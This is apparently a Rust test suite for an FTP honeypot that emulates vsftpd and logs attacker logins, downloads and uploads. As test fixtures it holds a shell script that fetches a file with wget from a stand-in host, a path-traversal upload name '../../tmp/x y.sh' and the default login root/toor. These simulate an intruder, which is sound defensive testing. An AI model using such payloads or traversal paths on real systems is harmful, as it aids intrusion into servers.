//! ftp against Python's ftplib: the vsftpd banner, USER/PASS logged byte-exact, the bait
//! listing over PASV and EPSV, RETR → `download_attempt`, STOR captured to the artifacts
//! directory with its sha256, and survival of garbage.
mod services_common;

use std::process::Command;

use services_common::{Fuzz, Service, run, secret, seed, tool};
use sha2::{Digest, Sha256};

/// A password with spaces, quotes, `]`, `\`, UTF-8 and a byte that is not UTF-8.
const NASTY: &[u8] = b"p a\"s]s\\w'\xc3\xb6\xffrd";

const CLIENT: &str = r#"
import ftplib, sys, io
port = int(sys.argv[1])
ftp = ftplib.FTP()
ftp.encoding = "latin-1"
print("BANNER", ftp.connect("127.0.0.1", port, timeout=20))
pw = bytes.fromhex(sys.argv[2]).decode("latin-1")
print("LOGIN", ftp.login("backup", pw))
ftp.set_pasv(True)
names = ftp.nlst()
print("NLST", ",".join(names))
lines = []
ftp.retrlines("LIST", lines.append)
print("LIST", len(lines))
buf = io.BytesIO()
ftp.retrbinary("RETR README.txt", buf.write)
print("README", len(buf.getvalue()))
ftp.af = 10  # force EPSV for the upload
ftp.storbinary("STOR ../../tmp/x y.sh", io.BytesIO(bytes.fromhex(sys.argv[3])))
print("QUIT", ftp.quit())
"#;

#[test]
fn ftplib_session_is_logged_and_uploads_are_captured() {
    if !tool("python3") {
        return;
    }
    let artifacts = tempfile::tempdir().expect("tempdir");
    let dir = artifacts.path().to_string_lossy().into_owned();
    let mut svc = Service::start(
        "ftp",
        &seed(1),
        "files-01",
        "ubuntu22",
        &[("FTP_LOGIN_MODE", "always"), ("FTP_ARTIFACTS_DIR", &dir)],
    );
    let upload = b"#!/bin/sh\nwget http://203.0.113.5/x\n".to_vec();
    let out = run(Command::new("python3").args([
        "-c",
        CLIENT,
        &svc.port.to_string(),
        &hex::encode(NASTY),
        &hex::encode(&upload),
    ]));
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("BANNER 220 (vsFTPd 3.0.5)"), "{text}");
    assert!(text.contains("LOGIN 230 Login successful."), "{text}");
    assert!(text.contains("NLST README.txt,.htaccess,"), "{text}");
    assert!(text.contains("QUIT 221 Goodbye."), "{text}");

    assert_eq!(svc.next("user").fields.get("username"), Some("backup"));
    let auth = svc.next("auth_attempt");
    assert_eq!(auth.fields.get("principal"), Some("backup"));
    assert_eq!(secret(&auth), NASTY);
    assert_eq!(auth.attacker_ip.as_deref(), Some("127.0.0.1"));
    let download = svc.next("download_attempt");
    assert_eq!(download.fields.get("path"), Some("README.txt"));
    assert!(
        download.attacker_ip.is_some(),
        "ftp events carry the attacker's address"
    );
    let file = svc.next("file_captured");
    let sha = hex::encode(Sha256::digest(&upload));
    assert_eq!(file.fields.get("sha256"), Some(sha.as_str()));
    assert_eq!(file.fields.get("orig_path"), Some("../../tmp/x y.sh"));
    let stored = file.fields.get("stored_as").expect("stored_as");
    assert!(
        stored.ends_with(&format!("_{}_x_y.sh", &sha[..12])),
        "{stored}"
    );
    let kept = std::fs::read(artifacts.path().join(stored)).expect("file in artifacts");
    assert_eq!(kept, upload);
}

#[test]
fn refused_logins_and_garbage() {
    if !tool("python3") {
        return;
    }
    let mut svc = Service::start(
        "ftp",
        &seed(2),
        "files-02",
        "debian",
        &[("FTP_LOGIN_MODE", "never")],
    );
    let reply = svc.raw(b"USER root\r\nPASS toor\r\nLIST\r\nQUIT\r\n");
    let reply = String::from_utf8_lossy(&reply).into_owned();
    assert!(reply.starts_with("220 (vsFTPd 3.0.3)\r\n331 Please specify the password.\r\n530 Login incorrect.\r\n530 Please login with USER and PASS.\r\n221 Goodbye.\r\n"), "{reply}");
    assert_eq!(secret(&svc.next("auth_attempt")), b"toor");
    let mut fuzz = Fuzz::new(2);
    for round in 0..40 {
        let len = usize::try_from(fuzz.next() % 3000).unwrap_or(0);
        let data = if round % 2 == 0 {
            fuzz.bytes(len)
        } else {
            [&b"USER a\r\nPASS b\r\nPASV\r\nRETR "[..], &fuzz.bytes(len)].concat()
        };
        svc.raw(&data);
    }
    assert!(svc.alive(), "the server survived");
    let again = String::from_utf8_lossy(&svc.raw(b"QUIT\r\n")).into_owned();
    assert!(again.ends_with("221 Goodbye.\r\n"), "{again}");
}
